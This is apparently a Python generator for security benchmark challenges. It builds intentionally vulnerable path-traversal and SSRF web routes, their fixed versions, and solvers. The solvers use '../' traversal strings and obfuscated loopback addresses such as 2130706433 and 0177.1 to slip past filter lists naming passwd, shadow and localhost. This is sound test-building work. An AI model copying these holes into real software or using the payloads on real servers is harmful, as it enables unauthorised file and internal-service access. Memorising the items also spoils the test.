"""Sections that fetch a paper for a visitor: from a folder (CWE-22), or from an address (CWE-918)."""

from __future__ import annotations

import re

from seatrial.battery.families.web.screens import Pipeline, Pools, Refusal, conceal, draw_pipeline, passed
from seatrial.battery.families.web.step import Call, Setting, Step, fill

_READ = """
@SITE.route("GET", "/«slug»/paper")
def «function»(request):
    «gate»
    name = «tidy»(request.query.get("«field»", ""))
    path = os.path.join(SITE.folder, name)
    if not os.path.isfile(path):
        raise kit.Problem(404, "There is no such paper.")
    with open(path, encoding="utf-8", errors="replace") as paper:
        return kit.Reply(paper.read(65536), kind="text/plain; charset=utf-8")
"""
_READ_INSIDE = """
@SITE.route("GET", "/«slug»/paper")
def «function»(request):
    «gate»
    name = «tidy»(request.query.get("«field»", ""))
    path = os.path.realpath(os.path.join(SITE.folder, name))
    if not path.startswith(os.path.realpath(SITE.folder) + os.sep) or not os.path.isfile(path):
        raise kit.Problem(404, "There is no such paper.")
    with open(path, encoding="utf-8", errors="replace") as paper:
        return kit.Reply(paper.read(65536), kind="text/plain; charset=utf-8")
"""
_READ_SOLVER = """
    return client.see("GET", "/«slug»/paper", {"«field»": conceal(«payload!r», «steps»)})
"""

_FETCHER = '''
«NEAR» = "«host»"


def «slug»_fetch(parts):
    """What an address answers, at most 64 KiB of it."""
    host, port = parts.hostname or "", parts.port or 80
    if host == «NEAR»:
        host, port = "127.0.0.1", int(SITE.keys["near"])
    connection = http.client.HTTPConnection(host, port, timeout=3)
    try:
        connection.request("GET", (parts.path or "/") + ("?" + parts.query if parts.query else ""))
        return connection.getresponse().read(65536).decode("utf-8", "replace")
    except (OSError, http.client.HTTPException, UnicodeError):
        raise kit.Problem(502, "Nothing answers at that address.") from None
    finally:
        connection.close()


'''
_FETCH = """
@SITE.route("GET", "/«slug»/preview")
def «function»(request):
    «gate»
    address = «tidy»(request.query.get("«field»", ""))
    try:
        parts = urlsplit(address)
        usual = parts.scheme == "http" and parts.port != 0
    except ValueError:
        raise kit.Problem(400, "That is no address.") from None
    if not usual:
        raise kit.Problem(400, "That is no address.")
    return kit.Reply(«slug»_fetch(parts), kind="text/plain; charset=utf-8")
"""
_FETCH_NEAR = """
@SITE.route("GET", "/«slug»/preview")
def «function»(request):
    «gate»
    address = «tidy»(request.query.get("«field»", ""))
    try:
        parts = urlsplit(address)
        usual = parts.scheme == "http" and parts.port != 0
    except ValueError:
        raise kit.Problem(400, "That is no address.") from None
    if not usual:
        raise kit.Problem(400, "That is no address.")
    if parts.netloc != «NEAR»:
        raise kit.Problem(403, "Papers come from our own shelf only.")
    return kit.Reply(«slug»_fetch(parts), kind="text/plain; charset=utf-8")
"""
_FETCH_SOLVER = """
    return client.see("GET", "/«slug»/preview", {"«field»": conceal(«payload!r», «steps»)})
"""


def _touches(template: str, payloads: list[str], pipe: Pipeline, **names: object) -> list[str]:
    """A solver body for each payload that gets through."""
    usable = [text for text in payloads if passed(conceal(text, pipe), pipe) == text]
    return [fill(template.replace("«payload!r»", repr(text)), steps=pipe.steps, **names) for text in usable]


def traversal(setting: Setting) -> Step:
    """A reading room for papers in a folder."""
    theme, draw = setting.theme, setting.draw
    slug, keep, root, sub = theme.desk(), theme.keep(), theme.fresh_word(), theme.fresh_word()
    holder = theme.holder()
    field = draw.choice(("name", "paper", "file", "doc"))
    open_names = [f"{sub}/{theme.fresh_word()}.txt" for _ in range(4)]
    kept = f"{keep}/{holder}.txt"
    refusals = (
        *(Refusal("^/"), Refusal(r"\.txt$", must=True), Refusal(f"^{sub}/", must=True), Refusal(r"\x5c")),
        *(Refusal(r"\x00"), Refusal("proc|passwd|shadow"), Refusal("~"), Refusal("//"), Refusal(r"\.(py|sql|json)")),
        *(Refusal("[^ -\\x7e]"), Refusal("^.{200}"), Refusal(r"\.\./\.\./\.\."), Refusal(":")),
    )
    words = tuple(word for word in (keep, holder) if word not in " ".join(open_names))
    pipe = draw_pipeline(draw, Pools((r"\.\./", r"\.\.", *words), refusals, words), setting.filters)
    payloads = [
        f"{sub}/../../{kept}",
        f"{sub}/./../../{kept}",
        f"{sub}/../../{keep}/./{holder}.txt",
        f"{sub}/../../{keep}/../{kept}",
        f"{sub}/../{sub}/../../{kept}",
        f"{sub}/../../{root}/../{kept}",
        f"{sub}/../../{root}/{sub}/../../{kept}",
    ]
    names = {"slug": slug, "field": field}
    solver, *touches = _touches(_READ_SOLVER, payloads, pipe, **names)
    values = {"function": f"{slug}_{theme.verb()}", "tidy": f"{slug}_tidy", "gate": setting.gate, **names}
    texts = {name: f"{theme.label().capitalize()}: kept by {theme.person().name}.\n" for name in open_names}
    texts[open_names[0]] = (
        f"Papers for visitors lie in the folder {root}. Next to it lies the folder {keep}, "
        f"where the {holder} keeps a paper of the name {holder}.txt.\n"
    )
    login = setting.probe.login
    calls = (
        *(
            Call(f"paper {at}", f"/{slug}/paper?{field}={name}", actor=login, holds=(texts[name].strip()[:24],))
            for at, name in enumerate(open_names[:3])
        ),
        Call("no paper", f"/{slug}/paper?{field}={sub}/nothing.txt", actor=login, status=404),
    )
    links = "".join(f'<li><a href="/{slug}/paper?{field}={name}">{name}</a></li>' for name in open_names)
    return Step(
        technique="traversal",
        cwe=22,
        number=setting.number,
        slug=slug,
        function=str(values["function"]),
        shared=pipe.function(f"{slug}_tidy", "That is no name of a paper."),
        weak=fill(_READ, **values).strip() + "\n",
        fixed=fill(_READ_INSIDE, **values).strip() + "\n",
        files={f"papers/{root}/{name}": text for name, text in texts.items()},
        layout={
            "files": {
                "root": root,
                "open": [f"{root}/{name}" for name in open_names],
                "kept": [
                    [kept, f"Kept for the {holder}: %s\n", setting.label],
                    [f"{keep}/former.txt", "Withdrawn, no longer right: %s\n", setting.old],
                ],
                "label": setting.label,
            }
        },
        calls=calls,
        solver=solver,
        touches=tuple(touches),
        needs=("conceal",),
        imports=("os",),
        sites=(f"<ul>{links}</ul>",),
    )


def ssrf(setting: Setting) -> Step:
    """A preview of papers from an address."""
    theme, draw = setting.theme, setting.draw
    slug, keep, holder = theme.desk(), theme.keep(), theme.holder()
    field = draw.choice(("address", "source", "link", "from"))
    host = f"papers.{theme.host}.example"
    near = draw.between(7100, 7499)
    inner = draw.between(7500, 7999)
    names = [f"{theme.fresh_word()}.txt" for _ in range(3)]
    path = f"/{keep}/{holder}"
    refusals = (
        *(Refusal(r"127\.|localhost"), Refusal("^http://", must=True), Refusal(r"\.txt$", must=True), Refusal("@")),
        *(Refusal("#"), Refusal(r"\["), Refusal(r"0\.0\.0\.0"), Refusal("::"), Refusal(r"\x5c"), Refusal(" ")),
        *(Refusal(r":(22|25|80|3306|5432|8080)\b"), Refusal("file:"), Refusal("admin|internal"), Refusal("0x")),
    )
    pipe = draw_pipeline(draw, Pools((r"//\d", r":\d", keep), refusals, (keep,)), setting.filters)
    payloads = [
        f"http://{number}:{inner}{path}{end}"
        for number, end in (
            *(("2130706433", "?as=.txt"), ("017700000001", "?as=.txt"), ("0", "?as=.txt"), ("0177.1", "?x=.txt")),
            *(("0177.0.1", "?.txt"), ("2130706433", "?a=b&c=.txt"), ("017700000001", "?list.txt")),
        )
    ]
    same = {"slug": slug, "field": field}
    solver, *touches = _touches(_FETCH_SOLVER, payloads, pipe, **same)
    values = {"function": f"{slug}_{theme.verb()}", "tidy": f"{slug}_tidy", "gate": setting.gate, **same}
    constant = f"{slug}_near".upper()
    texts = {name: f"{theme.label().capitalize()}: written by {theme.person().name}.\n" for name in names}
    texts[names[0]] = (
        f"This shelf is served on port {near} of the site's own machine. The {holder}'s shelf is beside it, "
        f"on port {inner}, and answers that machine only; its one paper is {path}.\n"
    )
    login = setting.probe.login
    calls = (
        *(
            Call(
                f"preview {at}", f"/{slug}/preview?{field}=http://{host}/{name}", actor=login, holds=(texts[name][:24],)
            )
            for at, name in enumerate(names)
        ),
        Call("no address", f"/{slug}/preview?{field}=nothing.txt", actor=login, status=400),
    )
    links = "".join(
        f'<li><a href="/{slug}/preview?{field}=http://{host}/{name}">{name} from {host}</a></li>' for name in names
    )
    return Step(
        technique="ssrf",
        cwe=918,
        number=setting.number,
        slug=slug,
        function=str(values["function"]),
        shared=pipe.function(f"{slug}_tidy", "That is no address.")
        + fill(_FETCHER, host=host, NEAR=constant, slug=slug).lstrip(),
        weak=fill(_FETCH, **values).strip() + "\n",
        fixed=fill(_FETCH_NEAR, NEAR=constant, **values).strip() + "\n",
        files={f"papers/{name}": text for name, text in texts.items()},
        layout={
            "inner": {
                "near": {f"/{name}": name for name in names},
                "kept": [
                    [path, f"Kept for the {holder}: %s\n", setting.label],
                    [f"/{keep}/former", "Withdrawn, no longer right: %s\n", setting.old],
                ],
                "told": path,
                "label": setting.label,
            },
            "ports": {"near": near, "inner": inner},
        },
        calls=calls,
        solver=solver,
        touches=tuple(touches),
        needs=("conceal",),
        imports=("http.client", "urlsplit"),
        sites=(f"<ul>{links}</ul>",),
    )


def legitimate(text: str, pipe: Pipeline) -> str | None:
    """A harmless text as it must be sent, or None when no way leads through."""
    for sent in (text, conceal(text, pipe)):
        if passed(sent, pipe) == text:
            return sent
    return None


def pattern(text: str) -> str:
    """A pattern that matches a text and nothing else, readable in a source."""
    return re.sub(r"([{}\[\]().$|*+?^\\])", r"\\\1", text)
